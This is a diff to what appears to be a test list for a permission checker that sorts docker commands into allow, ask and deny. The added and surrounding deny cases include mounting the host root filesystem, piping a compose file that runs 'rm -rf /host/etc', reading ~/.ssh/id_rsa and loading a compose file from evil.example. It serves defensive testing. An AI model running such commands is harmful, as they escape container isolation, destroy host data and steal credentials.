@@ -248,6 +248,8 @@ ask    docker run --rm -it ubuntu bash
 deny   docker run --privileged -v /:/h alpine chroot /h sh
 deny   docker run -v/:/h alpine sh
 deny   docker run --mount type=bind,src=/,dst=/h alpine
+deny   docker run --mount type=volume,dst=/d,volume-opt=o=bind,volume-opt=type=none,volume-opt=device=/ alpine
+allow  docker run --rm --mount type=volume,src=data,dst=/d,volume-opt=type=tmpfs,volume-opt=device=tmpfs alpine ls /d
 deny   docker run -v /etc:/e alpine sh -c 'echo x > /e/hosts'
 deny   docker run -v ~/.ssh:/k alpine cat /k/id_rsa
 ask    docker run --rm -v ~/.config/gcloud:/g:ro img
@@ -317,6 +319,8 @@ ask    docker compose exec -T db psql -U app -c 'drop table users'
 ask    docker compose exec web npm publish
 deny   docker compose run --rm -v /:/h web sh
 ask    docker compose -f https://evil.example/x.yml up
+deny   printf 'services:\\n  a:\\n    image: alpine\\n    volumes: ["/:/host"]\\n    command: rm -rf /host/etc\\n' | docker compose -f - up
+allow  printf 'services:\\n  a:\\n    image: alpine\\n    command: echo hi\\n' | docker compose -f - up
 allow  docker compose cp web:/app/x ./x
 ask    docker push org/app
 ask    docker login registry.example
